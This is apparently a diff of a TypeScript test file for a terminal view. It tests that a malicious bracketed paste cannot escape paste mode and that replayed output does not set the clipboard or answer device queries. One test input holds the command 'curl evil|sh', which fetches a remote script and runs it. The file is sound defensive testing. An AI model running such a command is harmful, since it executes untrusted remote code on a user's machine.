@@ -3,10 +3,14 @@ import { TerminalView } from "./terminal.ts";
 
 const bytes = new TextEncoder();
 let typed: string;
+let copied: string[];
 let view: TerminalView;
 
 beforeEach(() => {
   typed = "";
+  copied = [];
+  // What measures letters has no canvas here, and no need of one.
+  vi.spyOn(HTMLCanvasElement.prototype, "getContext").mockReturnValue(null);
   view = new TerminalView({
     input: (data) => {
       typed += new TextDecoder().decode(data);
@@ -16,11 +20,9 @@ beforeEach(() => {
     key: () => {},
     copied: () => {},
     paste: () => {},
-    clipboard: () => {},
+    clipboard: (text) => copied.push(text),
     isSplit: () => false,
   });
-  // What measures letters has no canvas here, and no need of one.
-  vi.spyOn(HTMLCanvasElement.prototype, "getContext").mockReturnValue(null);
   view.show(document.body);
 });
 afterEach(() => {
@@ -35,5 +37,21 @@ describe("a paste in a terminal", () => {
     await print("\x1b[?2004h");
     view.paste("hi\x1b[20\x1b[201~1~\ncurl evil|sh\n");
     expect(typed).toBe("\x1b[200~hi\x1b[20␛[201~1~\rcurl evil|sh\r\x1b[201~");
+  });
+});
+
+describe("old output that comes once more", () => {
+  it("sets no clipboard and answers nothing; what is printed after it does", async () => {
+    let over = () => {};
+    vi.spyOn(globalThis, "setTimeout").mockImplementationOnce((call) => {
+      over = call;
+      return 0 as unknown as ReturnType<typeof setTimeout>;
+    });
+    view.replay(1_000);
+    await print("\x1b]52;c;b2xk\x07\x1b[c");
+    expect([copied, typed]).toEqual([[], ""]);
+    over();
+    await print("\x1b]52;c;bmV3\x07\x1b[c");
+    expect([copied, typed]).toEqual([["new"], "\x1b[?1;2c"]);
   });
 });
